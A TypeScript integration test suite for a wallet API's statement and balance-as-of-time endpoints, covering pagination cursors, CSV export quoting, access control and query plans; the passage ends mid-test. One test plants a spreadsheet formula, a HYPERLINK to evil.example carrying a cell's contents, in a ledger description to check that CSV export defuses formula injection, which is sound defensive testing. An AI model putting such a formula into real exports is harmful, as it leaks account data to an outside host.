import { randomUUID } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import fc from 'fast-check';
import pg from 'pg';
import request from 'supertest';
import type { Principal } from '../src/common/auth/principal.js';
import { instantMicros } from '../src/common/http/instant.js';
import { SigningKeysService } from '../src/modules/auth/signing-keys.service.js';
import { Money } from '../src/modules/wallet/money.js';
import {
  encodeStatementCursor,
  statementCursorKeys,
} from '../src/modules/wallet/accounts/statement-cursor.js';
import {
  BALANCE_AT,
  statementPageQuery,
  statementQuery,
} from '../src/modules/wallet/accounts/statement.service.js';
import { subjectToken, type TestClient } from './support/auth.js';
import { bearer, countRows, expectNotFound, expectValidation } from './support/identity.js';
import type { TestApp } from './support/test-app.js';
import { flattenPlan, preparedPlan, rowsRead, type PlanNode } from './support/plans.js';
import { postTransfer, transferBody } from './support/transfers.js';
import { startWithTwoApplications } from './support/two-applications.js';
import { createOwner, openAccount, setBalance, type AccountInfo } from './support/wallet.js';

interface Movement {
  postingId: string;
  postedAt: string;
  amount: number;
  balance: number;
  entryId: string;
  kind: string;
  reference: string | null;
  description: string | null;
}

interface Statement {
  accountId: string;
  currency: string;
  from: string;
  to: string;
  openingBalance: number;
  closingBalance: number;
  totalIn: number;
  totalOut: number;
  movements: Movement[];
}

const STATEMENT_KEYS = [
  'accountId',
  'closingBalance',
  'currency',
  'from',
  'movements',
  'openingBalance',
  'to',
  'totalIn',
  'totalOut',
];
const MOVEMENT_KEYS = [
  'amount',
  'balance',
  'description',
  'entryId',
  'kind',
  'postedAt',
  'postingId',
  'reference',
];
const money = (value: number | string) => new Money(value);
const MICRO_UTC = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}Z$/;

/** RFC 4180 parser (quoted fields, doubled quotes, CRLF), written here so a bug in the writer cannot hide itself. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let fieldText = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        fieldText += '"';
        i++;
      } else if (c === '"') quoted = false;
      else fieldText += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(fieldText);
      fieldText = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(fieldText);
      rows.push(row);
      row = [];
      fieldText = '';
      i++;
    } else fieldText += c;
  }
  expect(fieldText).toBe('');
  expect(row).toEqual([]);
  return rows;
}

/** A step of the randomized history. */
type Step =
  | { op: 'set'; balance: number }
  | { op: 'transfer'; amount: number }
  | { op: 'entry'; amount: number; description: string };

const cents = (min: number, max: number) =>
  fc.integer({ min: min * 100, max: max * 100 }).map((n) => n / 100);
const stepArbitrary: fc.Arbitrary<Step> = fc.oneof(
  fc.record({ op: fc.constant('set' as const), balance: cents(0, 5000) }),
  fc.record({ op: fc.constant('transfer' as const), amount: cents(1, 50) }),
  fc.record({
    op: fc.constant('entry' as const),
    amount: cents(-30, 30).filter((n) => n !== 0),
    description: fc.constantFrom(
      'plain',
      'with, a comma',
      'with "quotes", and a comma',
      'line\nbreak',
      'ñandú €',
    ),
  }),
);

describe('wallet statements and balance as of a time (real database)', () => {
  let t: TestApp;
  let appA: TestClient;
  let appB: TestClient;
  let tokenA: string;
  let tokenB: string;
  let ownerX: string;
  let x: AccountInfo;
  let y: AccountInfo;
  /** Instants (database clock text) before, between and after the history, with the balance read live then. */
  const checkpoints: { at: string; balance: number }[] = [];
  let created: string;

  const api = () => request(t.http);
  const balanceAt = (uuid: string, at: string, token = tokenA) =>
    api().get(`/v1/wallet/accounts/${uuid}/balance`).query({ at }).set('Authorization', bearer(token));
  const liveBalance = async (uuid: string): Promise<number> => {
    const response = await api()
      .get(`/v1/wallet/accounts/${uuid}/balance`)
      .set('Authorization', bearer(tokenA));
    expect(response.status).toBe(200);
    return (response.body as { balance: number }).balance;
  };
  const statement = (uuid: string, query: Record<string, string | number>, token = tokenA) =>
    api().get(`/v1/wallet/accounts/${uuid}/statement`).query(query).set('Authorization', bearer(token));
  const dbNow = async (): Promise<string> =>
    (
      (await t.dataSource.query(
        `SELECT to_char(clock_timestamp() AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') AS now`,
      )) as { now: string }[]
    )[0].now;
  /** The live balance and the database instant it held at (read twice around the clock, so nothing slipped between). */
  const checkpoint = async (uuid: string): Promise<{ at: string; balance: number }> => {
    for (;;) {
      const before = await liveBalance(uuid);
      const at = await dbNow();
      if ((await liveBalance(uuid)) === before) return { at, balance: before };
    }
  };
  const pages = async (uuid: string, from: string, to: string, limit: number): Promise<Statement[]> => {
    const served: Statement[] = [];
    let cursor: string | undefined;
    for (let guard = 0; guard < 1000; guard++) {
      const response = await statement(uuid, { from, to, limit, ...(cursor ? { cursor } : {}) });
      expect(response.status).toBe(200);
      served.push(response.body as Statement);
      cursor = response.headers['x-next-cursor'] as string | undefined;
      if (!cursor) return served;
    }
    throw new Error('pagination did not end');
  };

  beforeAll(async () => {
    ({ t, appA, appB, tokenA, tokenB } = await startWithTwoApplications('statement'));
    created = await dbNow();
    ownerX = await createOwner(t.http, tokenA);
    x = await openAccount(t.http, tokenA, appA.appId, ownerX);
    y = await openAccount(t.http, tokenA, appA.appId, await createOwner(t.http, tokenA));
    // y is the other side of the raw entries below: funded, so none takes it below zero (decision 0037).
    await setBalance(t.http, tokenA, y.uuid, 100_000);
    checkpoints.push(await checkpoint(x.uuid));

    // A new history each run; the seed is printed so a failure can be replayed with STATEMENT_SEED=<seed>.
    const seed = Number(process.env.STATEMENT_SEED ?? Date.now());
    console.log(`statement history seed ${seed} (replay: STATEMENT_SEED=${seed})`);
    const [steps] = fc.sample(fc.array(stepArbitrary, { minLength: 10, maxLength: 14 }), {
      seed,
      numRuns: 1,
    });
    for (const step of steps) {
      if (step.op === 'set') await setBalance(t.http, tokenA, x.uuid, step.balance);
      else if (step.op === 'transfer') {
        if ((await liveBalance(x.uuid)) < step.amount * 1.01) await setBalance(t.http, tokenA, x.uuid, 1000);
        const response = await postTransfer(t.http, tokenA, transferBody(x.uuid, y.cvu, step.amount));
        expect(response.status).toBe(201);
      } else {
        // No commit leaves a wallet below zero (decision 0037): fund x first when the entry takes from it.
        if (step.amount < 0 && (await liveBalance(x.uuid)) < -step.amount) {
          await setBalance(t.http, tokenA, x.uuid, 1000);
        }
        await t.dataSource.query(
          `SELECT ledger_post($1, 'TEST', $2, $3, 'test:statement', ARRAY[$4::uuid, $5::uuid], ARRAY[$6::numeric, -$6::numeric], 'ARS')`,
          [appA.appId, `ref-${randomUUID()}`, step.description, x.uuid, y.uuid, String(step.amount)],
        );
      }
      await sleep(15);
      checkpoints.push(await checkpoint(x.uuid));
      await sleep(15);
    }
    // Transfers may settle asynchronously: wait until the balance stops moving, then take the last checkpoint.
    for (let stable = 0; stable < 3;) {
      const before = await liveBalance(x.uuid);
      await sleep(100);
      stable = (await liveBalance(x.uuid)) === before ? stable + 1 : 0;
    }
    checkpoints.push(await checkpoint(x.uuid));
  });
  afterAll(() => t.close());

  describe('GET …/balance?at=', () => {
    it('equals the balance read live at every checkpoint', async () => {
      for (const { at, balance } of checkpoints) {
        const response = await balanceAt(x.uuid, at);
        expect(response.status).toBe(200);
        expect(response.body).toStrictEqual({ id: x.uuid, accountId: x.uuid, balance });
      }
    });

    it('is 0 before the account existed and the current balance in the future; without at, the same body as always', async () => {
      const now = await liveBalance(x.uuid);
      expect((await balanceAt(x.uuid, '2000-01-01T00:00:00Z')).body).toStrictEqual({
        id: x.uuid,
        accountId: x.uuid,
        balance: 0,
      });
      expect((await balanceAt(x.uuid, created)).body.balance).toBe(0);
      expect((await balanceAt(x.uuid, '2999-12-31T23:59:59.999999+00:00')).body.balance).toBe(now);
      const plain = await api()
        .get(`/v1/wallet/accounts/${x.uuid}/balance`)
        .set('Authorization', bearer(tokenA));
      expect(plain.text).toBe(JSON.stringify({ id: x.uuid, accountId: x.uuid, balance: now }));
    });

    it('accepts an offset and reads the same instant', async () => {
      const last = checkpoints[checkpoints.length - 1];
      const shifted = new Date(Date.parse(last.at) + 1000).toISOString(); // ms; one second later, still after all
      const local = `${new Date(Date.parse(shifted) - 3 * 3600_000).toISOString().slice(0, 23)}-03:00`;
      expect((await balanceAt(x.uuid, local)).body.balance).toBe(last.balance);
    });
  });

  describe('GET …/statement', () => {
    it('chains periods: each closing is the next opening and the balance at its end; movements run to it', async () => {
      const cuts = ['2000-01-01T00:00:00Z', ...checkpoints.filter((_c, i) => i % 3 === 0).map((c) => c.at)];
      cuts.push(checkpoints[checkpoints.length - 1].at, '2999-01-01T00:00:00Z');
      let previousClosing: number | undefined;
      for (let i = 0; i + 1 < cuts.length; i++) {
        const [from, to] = [cuts[i], cuts[i + 1]];
        const response = await statement(x.uuid, { from, to, limit: 500 });
        expect(response.status).toBe(200);
        const body = response.body as Statement;
        expect(Object.keys(body).sort()).toStrictEqual(STATEMENT_KEYS);
        expect(body.accountId).toBe(x.uuid);
        expect(body.currency).toBe('ARS');
        if (previousClosing !== undefined) expect(body.openingBalance).toBe(previousClosing);
        expect(body.openingBalance).toBe((await balanceAt(x.uuid, from)).body.balance);
        expect(body.closingBalance).toBe((await balanceAt(x.uuid, to)).body.balance);
        let running = body.openingBalance * 100;
        let totalIn = 0;
        let totalOut = 0;
        for (const m of body.movements) {
          expect(Object.keys(m).sort()).toStrictEqual(MOVEMENT_KEYS);
          expect(m.postedAt).toMatch(MICRO_UTC);
          expect(Date.parse(m.postedAt)).toBeGreaterThanOrEqual(Date.parse(from));
          expect(Date.parse(m.postedAt)).toBeLessThanOrEqual(Date.parse(to));
          running += Math.round(m.amount * 100);
          expect(m.balance * 100).toBeCloseTo(running, 6);
          if (m.amount > 0) totalIn += Math.round(m.amount * 100);
          else totalOut -= Math.round(m.amount * 100);
        }
        const last = body.movements[body.movements.length - 1];
        if (last) expect(last.balance).toBe(body.closingBalance);
        else expect(body.closingBalance).toBe(body.openingBalance);
        expect(Math.round(body.totalIn * 100)).toBe(totalIn);
        expect(Math.round(body.totalOut * 100)).toBe(totalOut);
        previousClosing = body.closingBalance;
      }
    });

    it('pages lose and repeat nothing; each page carries the period opening, closing and totals', async () => {
      const from = '2000-01-01T00:00:00Z';
      const to = '2999-01-01T00:00:00Z';
      const whole = await pages(x.uuid, from, to, 500);
      expect(whole).toHaveLength(1);
      expect(whole[0].movements.length).toBeGreaterThan(3);
      const paged = await pages(x.uuid, from, to, 2);
      expect(paged.length).toBe(Math.ceil(whole[0].movements.length / 2));
      for (const page of paged) {
        expect(page.movements.length).toBeLessThanOrEqual(2);
        expect({ ...page, movements: [] }).toStrictEqual({ ...whole[0], movements: [] });
      }
      expect(paged.flatMap((page) => page.movements)).toStrictEqual(whole[0].movements);
      // Without from and to: the whole history up to now.
      const plain = (await statement(x.uuid, { limit: 500 })).body as Statement;
      expect(plain.from).toBe('1970-01-01T00:00:00.000000Z');
      expect(plain.to).toMatch(MICRO_UTC);
      expect({ ...plain, to }).toStrictEqual({ ...whole[0], from: plain.from, to });
    });

    it('answers the same as CSV with Accept: text/csv, row for row (RFC 4180 quoting)', async () => {
      const query = { from: '2000-01-01T00:00:00Z', to: '2999-01-01T00:00:00Z', limit: 500 };
      const json = (await statement(x.uuid, query)).body as Statement;
      const response = await statement(x.uuid, query).set('Accept', 'text/csv');
      expect(response.status).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      const rows = parseCsv(response.text);
      expect(rows[0]).toStrictEqual([
        'row',
        'posted_at',
        'amount',
        'balance',
        'posting_id',
        'entry_id',
        'kind',
        'reference',
        'description',
      ]);
      expect(rows[1]).toStrictEqual([
        'OPENING',
        json.from,
        '',
        String(json.openingBalance),
        '',
        '',
        '',
        '',
        '',
      ]);
      const movements = rows.slice(2, -3);
      expect(movements).toHaveLength(json.movements.length);
      movements.forEach((row, i) => {
        const m = json.movements[i];
        expect(row).toStrictEqual([
          'MOVEMENT',
          m.postedAt,
          String(m.amount),
          String(m.balance),
          m.postingId,
          m.entryId,
          m.kind,
          m.reference ?? '',
          m.description ?? '',
        ]);
      });
      expect(rows.slice(-3)).toStrictEqual([
        ['CLOSING', json.to, '', String(json.closingBalance), '', '', '', '', ''],
        ['TOTAL_IN', json.to, String(json.totalIn), '', '', '', '', '', ''],
        ['TOTAL_OUT', json.to, String(json.totalOut), '', '', '', '', '', ''],
      ]);
      // The ledger's descriptions survive the quoting; one with a comma and quotes is written quoted, quotes doubled.
      const quoted = json.movements.find((m) => m.description === 'with "quotes", and a comma');
      if (quoted) expect(response.text).toContain('"with ""quotes"", and a comma"');
    });

    it('writes a description that a spreadsheet would run as a formula as text', async () => {
      const z = await openAccount(t.http, tokenA, appA.appId, await createOwner(t.http, tokenA));
      const formula = '=HYPERLINK("https://evil.example/?"&D3,"Ver reintegro")';
      await t.dataSource.query(
        `SELECT ledger_post($1, 'TEST', '+54911', $2, 'test:statement', ARRAY[$3::uuid, $4::uuid], ARRAY[1, -1], 'ARS')`,
        [appA.appId, formula, z.uuid, y.uuid],
      );
      const query = { from: '2000-01-01T00:00:00Z', to: '2999-01-01T00:00:00Z' };
      const rows = parseCsv((await statement(z.uuid, query).set('Accept', 'text/csv')).text);
      expect(rows[2].slice(6)).toStrictEqual(['TEST', "'+54911", `'${formula}`]);
      // The JSON answer keeps the text as written.
      const json = (await statement(z.uuid, query)).body as Statement;
      expect(json.movements.map((m) => [m.reference, m.description])).toStrictEqual([['+54911', formula]]);
    });

    it('writes RFC 4180 quoting for a description with a comma, quotes and a line break', async () => {
      const z = await openAccount(t.http, tokenA, appA.appId, await createOwner(t.http, tokenA));
      const description = 'pago "urgente", cuota 1\nde 3';
      await t.dataSource.query(
        `SELECT ledger_post($1, 'TEST', 'ref,1', $2, 'test:statement', ARRAY[$3::uuid, $4::uuid], ARRAY[12.5, -12.5], 'ARS')`,
        [appA.appId, description, z.uuid, y.uuid],
      );
      const query = { from: '2000-01-01T00:00:00Z', to: '2999-01-01T00:00:00Z' };
      const csv = await statement(z.uuid, query).set('Accept', 'text/csv');
      expect(csv.text).toContain(`,TEST,"ref,1","pago ""urgente"", cuota 1\nde 3"\r\n`);
      const rows = parseCsv(csv.text);
      expect(rows[2].slice(2, 4)).toStrictEqual(['12.5', '12.5']);
      expect(rows[2][8]).toBe(description);
      const json = (await statement(z.uuid, query)).body as Statement;
      expect(json.movements.map((m) => [m.amount, m.balance, m.reference, m.description])).toStrictEqual([
        [12.5, 12.5, 'ref,1', description],
      ]);
      expect([json.openingBalance, json.closingBalance, json.totalIn, json.totalOut]).toStrictEqual([
        0, 12.5, 12.5, 0,
      ]);
    });

    it("reaches the owner's token, and 404s for another application or another owner", async () => {
      const query = { from: '2000-01-01T00:00:00Z', to: '2999-01-01T00:00:00Z' };
      const own = await subjectToken(appA, ownerX);
      expect((await statement(x.uuid, query, own)).status).toBe(200);
      expect((await balanceAt(x.uuid, checkpoints[1].at, own)).body.balance).toBe(checkpoints[1].balance);
      const stranger = await subjectToken(appA, await createOwner(t.http, tokenA));
      for (const token of [tokenB, stranger]) {
        expectNotFound(await statement(x.uuid, query, token), x.uuid);
        expectNotFound(await balanceAt(x.uuid, checkpoints[1].at, token), x.uuid);
      }
      const unknown = randomUUID();
      expectNotFound(await statement(unknown, query), unknown);
    });

    it("names on each side of an internal transfer that side's own transaction: the receiver's DEPOSIT, which its application opens, and the sender's WITHDRAW (JSON and CSV; decision 0084)", async () => {
      const sender = await openAccount(t.http, tokenA, appA.appId, await createOwner(t.http, tokenA));
      await setBalance(t.http, tokenA, sender.uuid, 500);
      const receiver = await openAccount(t.http, tokenB, appB.appId, await createOwner(t.http, tokenB));
      const sent = await postTransfer(t.http, tokenA, transferBody(sender.uuid, receiver.cvu, 75));
      expect(sent.status).toBe(201);
      const withdraw = (sent.body as { uuid: string }).uuid;
      const [{ deposit }] = (await t.dataSource.query(
        `SELECT id::text AS deposit FROM transfers WHERE linked_transfer_id = $1 AND account_id = $2`,
        [withdraw, receiver.uuid],
      )) as { deposit: string }[];
      const query = { from: '2000-01-01T00:00:00Z', to: '2999-01-01T00:00:00Z' };
      for (const [account, token, own, other] of [
        [receiver, tokenB, deposit, withdraw],
        [sender, tokenA, withdraw, deposit],
      ] as const) {
        const json = (await statement(account.uuid, query, token)).body as Statement;
        const line = json.movements.filter((m) => m.kind === 'INTERNAL_TRANSFER');
        expect(line.map((m) => [Math.sign(m.amount), m.reference])).toStrictEqual([
          [account === receiver ? 1 : -1, own],
        ]);
        const rows = parseCsv((await statement(account.uuid, query, token).set('Accept', 'text/csv')).text);
        expect(rows.filter((row) => row[6] === 'INTERNAL_TRANSFER').map((row) => row[7])).toStrictEqual([
          own,
        ]);
        // The account's application opens the row its line names, and not the other side's.
        const open = (uuid: string) =>
          api().get(`/v1/wallet/transactions/${uuid}`).set('Authorization', bearer(token));
        const ownRow = await open(own);
        expect([ownRow.status, (ownRow.body as { uuid: string }).uuid]).toStrictEqual([200, own]);
        expectNotFound(await open(other), other);
      }
    });
    it('keeps the reference of an internal-transfer entry whose reference is not a uuid (a repaired entry) instead of failing the page (decision 0084)', async () => {
      const account = await openAccount(t.http, tokenA, appA.appId, await createOwner(t.http, tokenA));
      const system = randomUUID();
      await t.dataSource.transaction(async (manager) => {
        await manager.query(
          `INSERT INTO ledger_accounts (id, kind, code, currency) VALUES ($1, 'SYSTEM', 'TEST', 'ARS')`,
          [system],
        );
        const entry = randomUUID();
        await manager.query(
          `INSERT INTO journal_entries (id, app_id, kind, reference, description, actor)
           VALUES ($1, $2, 'INTERNAL_TRANSFER', 'repaired-by-hand', 'repair', 'test:repair')`,
          [entry, appA.appId],
        );
        await manager.query(
          `INSERT INTO postings (entry_id, account_id, amount, currency) VALUES ($1, $2, 2, 'ARS'), ($1, $3, -2, 'ARS')`,
          [entry, account.uuid, system],
        );
        await manager.query(`UPDATE ledger_accounts SET balance = balance + 2 WHERE id = $1`, [account.uuid]);
      });
      const query = { from: '2000-01-01T00:00:00Z', to: '2999-01-01T00:00:00Z' };
      const json = await statement(account.uuid, query);
      expect(json.status).toBe(200);
      expect(
        (json.body as Statement).movements.map((m) => [m.kind, m.amount, m.reference, m.balance]),
      ).toStrictEqual([['INTERNAL_TRANSFER', 2, 'repaired-by-hand', 2]]);
    });
  });

  describe('cursors keep the statement (decision 0063)', () => {
    const WHOLE = { from: '2000-01-01T00:00:00Z', to: '2999-01-01T00:00:00Z' };
    const refusedAtCursor = (response: request.Response) =>
      expect(expectValidation(response)).toStrictEqual([
        { path: 'cursor', message: expect.any(String), type: 'invalid' },
      ]);
    /** A raw entry of `amount` on `uuid` against y. */
    const post = (uuid: string, amount: number, description = 'between pages') =>
      t.dataSource.query(
        `SELECT ledger_post($1, 'TEST', $2, $3, 'test:statement', ARRAY[$4::uuid, $5::uuid], ARRAY[$6::numeric, -$6::numeric], 'ARS')`,
        [appA.appId, `ref-${randomUUID()}`, description, uuid, y.uuid, String(amount)],
      );

    it('refuses a cursor before from, after to, of another account, of another from or to, or of the earlier form (400 at cursor, JSON and CSV alike)', async () => {
      const whole = (await statement(x.uuid, { ...WHOLE, limit: 500 })).body as Statement;
      expect(whole.movements.length).toBeGreaterThan(3);
      const first = await statement(x.uuid, { ...WHOLE, limit: 1 });
      const cursor = first.headers['x-next-cursor'] as string;
      expect(cursor).toEqual(expect.any(String));
      const [m0, m1, m2] = whole.movements;
      const withoutTo = (await statement(x.uuid, { from: WHOLE.from, limit: 1 })).headers[
        'x-next-cursor'
      ] as string;
      const [start, end, t1] = [WHOLE.from, WHOLE.to, m1.postedAt].map(instantMicros);
      const [cursorKey] = await statementCursorKeys(t.app.get(SigningKeysService));
      const figures = { opening: money(0), totalIn: money(1), totalOut: money(0), running: money(1) };
      const cases: [string, Record<string, string>][] = [
        // The review's example: `1970-01-01T00:00:00Z|1`, a position long before from (the earlier form).
        ['earlier form', { from: '2026-11-01T00:00:00Z', cursor: 'MTk3MC0wMS0wMVQwMDowMDowMFp8MQ' }],
        [
          'earlier form, inside the period',
          { ...WHOLE, cursor: Buffer.from(`${m0.postedAt}|${m0.postingId}`).toString('base64url') },
        ],
        // A client that recomputes from on each page: the cursor is of page 1's from.
        ['another from, after the position', { from: m1.postedAt, to: WHOLE.to, cursor }],
        ['another from, before the position', { from: '1999-01-01T00:00:00Z', to: WHOLE.to, cursor }],
        ['another to', { from: WHOLE.from, to: m2.postedAt, cursor }],
        // Page 1 without to: its now is the cursor's to.
        ['a to given after page 1 without one', { ...WHOLE, cursor: withoutTo }],
        // Cursors of the right form whose position is outside their own period (from, to].
        ...(
          [
            ['before from', t1, end, t1 - 1n],
            ['at from', t1, end, t1],
            ['after to', start, t1, t1 + 1n],
          ] as const
        ).map(([label, from, to, at]): [string, Record<string, string>] => [
          `a position ${label}`,
          {
            // Signed as the service signs (decision 0077), so only the position is at fault.
            cursor: encodeStatementCursor(
              { ...figures, accountId: x.uuid, from, to, upTo: to, at, id: m0.postingId },
              cursorKey,
            ),
          },
        ]),
      ];
      for (const [label, query] of cases) {
        for (const accept of ['application/json', 'text/csv']) {
          const response = await statement(x.uuid, query).set('Accept', accept);
          expect([label, accept, response.status]).toStrictEqual([label, accept, 400]);
          refusedAtCursor(response);
        }
      }
      // Of another account: y's cursor on x (the same period).
      const ofY = (await statement(y.uuid, { ...WHOLE, limit: 1 })).headers['x-next-cursor'] as string;
      refusedAtCursor(await statement(x.uuid, { ...WHOLE, cursor: ofY }));
      refusedAtCursor(await statement(x.uuid, { ...WHOLE, cursor: ofY }).set('Accept', 'text/csv'));

      // Page 1's period, written in another offset, or left out: the same next page, balances that run on.
      const next = (await statement(x.uuid, { ...WHOLE, limit: 2, cursor })).body as Statement;
      expect(next.movements.map((m) => m.postingId)).toStrictEqual([m1.postingId, m2.postingId]);
      expect({ ...next, movements: [] }).toStrictEqual({ ...whole, movements: [] });
      expect(next.movements).toStrictEqual(whole.movements.slice(1, 3));
      const local = { from: '1999-12-31T21:00:00-03:00', to: '2998-12-31T21:00:00.000000-03:00' };
      for (const query of [
        { ...local, limit: 2, cursor },
        { limit: 2, cursor },
      ]) {
        expect((await statement(x.uuid, query)).body).toStrictEqual(next);
      }
    });

    it('without to, every page is of page 1: its to, closing and totals, and no movement after it, while postings arrive (JSON and CSV)', async () => {
      for (const accept of ['application/json', 'text/csv']) {
        const z = await openAccount(t.http, tokenA, appA.appId, await createOwner(t.http, tokenA));
        for (const amount of [10, -2.5, 7, 1.25, -3]) await post(z.uuid, amount, 'before page 1');
        /** A page as JSON, or the CSV's rows read back into the same shape. */
        const page = async (
          query: Record<string, string | number>,
        ): Promise<[Statement, string | undefined]> => {
          const response = await statement(z.uuid, query).set('Accept', accept);
          expect(response.status).toBe(200);
          const next = response.headers['x-next-cursor'] as string | undefined;
          if (accept === 'application/json') return [response.body as Statement, next];
          const rows = parseCsv(response.text);
          const [opening, closing, totalIn, totalOut] = [rows[1], ...rows.slice(-3)];
          expect([opening[0], closing[0], totalIn[0], totalOut[0]]).toStrictEqual([
            'OPENING',
            'CLOSING',
            'TOTAL_IN',
            'TOTAL_OUT',
          ]);
          const body: Statement = {
            accountId: z.uuid,
            currency: 'ARS',
            from: opening[1],
            to: closing[1],
            openingBalance: Number(opening[3]),
            closingBalance: Number(closing[3]),
            totalIn: Number(totalIn[2]),
            totalOut: Number(totalOut[2]),
            movements: rows.slice(2, -3).map((row) => ({
              postingId: row[4],
              postedAt: row[1],
              amount: Number(row[2]),
              balance: Number(row[3]),
              entryId: row[5],
              kind: row[6],
              reference: row[7],
              description: row[8],
            })),
          };
          return [body, next];
        };
        const served: Statement[] = [];
        let [body, cursor] = await page({ limit: 2 });
        served.push(body);
        while (cursor) {
          // Postings after page 1's to, between every two pages.
          await post(z.uuid, 100, 'after page 1');
          [body, cursor] = await page({ limit: 2, cursor });
          served.push(body);
        }
        expect([accept, served.length]).toStrictEqual([accept, 3]);
        const [one] = served;
        expect(one.closingBalance).toBe(12.75);
        for (const each of served) {
          expect({ ...each, movements: [] }).toStrictEqual({ ...one, movements: [] });
          for (const m of each.movements) {
            expect(m.description).toBe('before page 1');
            expect(instantMicros(m.postedAt) <= instantMicros(one.to)).toBe(true);
          }
        }
        // The pages together are the statement of page 1's period in one page.
        const [all] = await page({ to: one.to, limit: 500 });
        expect(served.flatMap((each) => each.movements)).toStrictEqual(all.movements);
        expect({ ...all, movements: [] }).toStrictEqual({ ...one, movements: [] });
        expect(all.movements.at(-1)?.balance).toBe(one.closingBalance);
      }
    });
  });

  describe('bad input', () => {
    it('400s with the validation body, naming the parameter, and writes nothing', async () => {
      const before = await Promise.all(
        ['journal_entries', 'postings'].map((table) => countRows(t.dataSource, table)),
      );
      const ok = '2026-01-01T00:00:00Z';
      const cases: [request.Test, string, string][] = [
        [balanceAt(x.uuid, 'yesterday'), 'at', 'invalid'],
        [balanceAt(x.uuid, '2026-02-30T00:00:00Z'), 'at', 'invalid'],
        [balanceAt(x.uuid, '2026-01-01T24:00:00Z'), 'at', 'invalid'],
        [balanceAt(x.uuid, '2026-01-01 00:00:00'), 'at', 'invalid'],
        [balanceAt(x.uuid, ''), 'at', 'required'],
        [statement(x.uuid, { from: '', to: ok }), 'from', 'required'],
        [statement(x.uuid, { from: '2999-01-01T00:00:00Z' }), 'to', 'invalid'],
        [statement(x.uuid, { from: 'x', to: ok }), 'from', 'invalid'],
        [statement(x.uuid, { from: ok, to: '2026-13-01T00:00:00Z' }), 'to', 'invalid'],
        [statement(x.uuid, { from: '2026-02-01T00:00:00Z', to: ok }), 'to', 'invalid'],
        [statement(x.uuid, { from: ok, to: ok, cursor: 'bm9wZQ' }), 'cursor', 'invalid'],
        // A posting id past a bigint's range (it answered 500).
        [
          statement(x.uuid, {
            from: ok,
            to: ok,
            cursor: Buffer.from(`${ok}|9999999999999999999`).toString('base64url'),
          }),
          'cursor',
          'invalid',
        ],
        // A cursor of the current form with an instant PostgreSQL cannot store (before 4713 BC).
        [
          statement(x.uuid, {
            cursor: Buffer.from(`${x.uuid}|-999999999999999999|2|1|1`).toString('base64url'),
          }),
          'cursor',
          'invalid',
        ],
        [statement(x.uuid, { from: ok, to: ok, limit: 0 }), 'limit', 'invalid'],
      ];
      for (const [test, path] of cases) {
        const items = expectValidation(await test);
        expect(items.map((item) => item.path)).toContain(path);
      }
      const after = await Promise.all(
        ['journal_entries', 'postings'].map((table) => countRows(t.dataSource, table)),
      );
      expect(after).toStrictEqual(before);
    });
  });

  describe('on a long history', () => {
    /** The account's posting after `offset` others, in statement order: a cursor's position. */
    const nthPosting = async (db: pg.Client, accountId: string, offset: number) =>
      (
        await db.query<{ at: string; id: string }>(
          `SELECT to_char(created_at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') AS at, id::text
             FROM postings WHERE account_id = $1 ORDER BY created_at OFFSET $2 LIMIT 1`,
          [accountId, offset],
        )
      ).rows[0];

    it('a balance as of a recent time is one index-only range scan bounded by the postings after it (100,000 postings); a statement: its generic plans read what its custom plans read, and page 1 reads its totals and its page only', async () => {
      const z = await openAccount(t.http, tokenA, appA.appId, await createOwner(t.http, tokenA));
      const system = randomUUID();
      await t.dataSource.query(
        `INSERT INTO ledger_accounts (id, kind, code, currency) VALUES ($1, 'SYSTEM', 'TEST', 'ARS')`,
        [system],
      );
      // 100,000 balanced entries of +1 / -1, one second apart, the last one 100,000 s ago.
      await t.dataSource.transaction(async (manager) => {
        await manager.query(
          `INSERT INTO journal_entries (id, app_id, kind, description, actor, created_at)
           SELECT md5('bulk' || $1 || i)::uuid, $2, 'TEST', 'bulk', 'test:bulk', now() - make_interval(secs => 200001 - i)
             FROM generate_series(1, 100000) AS i`,
          [z.uuid, appA.appId],
        );
        await manager.query(
          `INSERT INTO postings (entry_id, account_id, amount, currency, created_at)
           SELECT md5('bulk' || $1 || i)::uuid, a.id, a.amount, 'ARS', now() - make_interval(secs => 200001 - i)
             FROM generate_series(1, 100000) AS i,
                  (VALUES ($1::uuid, 1::numeric), ($2::uuid, -1::numeric)) AS a(id, amount)`,
          [z.uuid, system],
        );
        await manager.query(`UPDATE ledger_accounts SET balance = balance + 100000 WHERE id = $1`, [z.uuid]);
      });
      await t.dataSource.query('VACUUM ANALYZE postings, ledger_accounts');
      // The 11th latest posting's time: exactly 10 postings are after it.
      const startOfLast10 = (
        (await t.dataSource.query(
          `SELECT to_char(created_at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') AS at
             FROM postings WHERE account_id = $1 ORDER BY created_at DESC OFFSET 10 LIMIT 1`,
          [z.uuid],
        )) as { at: string }[]
      )[0].at;
      const response = await balanceAt(z.uuid, startOfLast10);
      expect(response.body.balance).toBe(99990);

      const [{ 'QUERY PLAN': plan }] = (await t.dataSource.query(
        `EXPLAIN (ANALYZE, FORMAT JSON)
         SELECT a.balance - COALESCE((SELECT sum(p.amount) FROM postings p
                                       WHERE p.account_id = a.id AND p.created_at > $2::timestamptz), 0)
           FROM ledger_accounts a WHERE a.id = $1`,
        [z.uuid, startOfLast10],
      )) as { 'QUERY PLAN': { Plan: PlanNode }[] }[];
      const nodes = flattenPlan(plan[0].Plan);
      // No sequential read of the postings. The account row may be read either way: in this test's database
      // ledger_accounts is a page or two, and once it is analysed (above, or by autovacuum, as CI once saw) a
      // sequential scan of it is what the planner rightly prefers.
      expect(
        nodes.some((node) => node['Node Type'] === 'Seq Scan' && node['Relation Name'] === 'postings'),
      ).toBe(false);
      const scan = nodes.find((node) => node['Index Name'] === 'idx_postings_account_time');
      expect(scan?.['Node Type']).toBe('Index Only Scan');
      expect(scan?.['Actual Rows']).toBe(10);
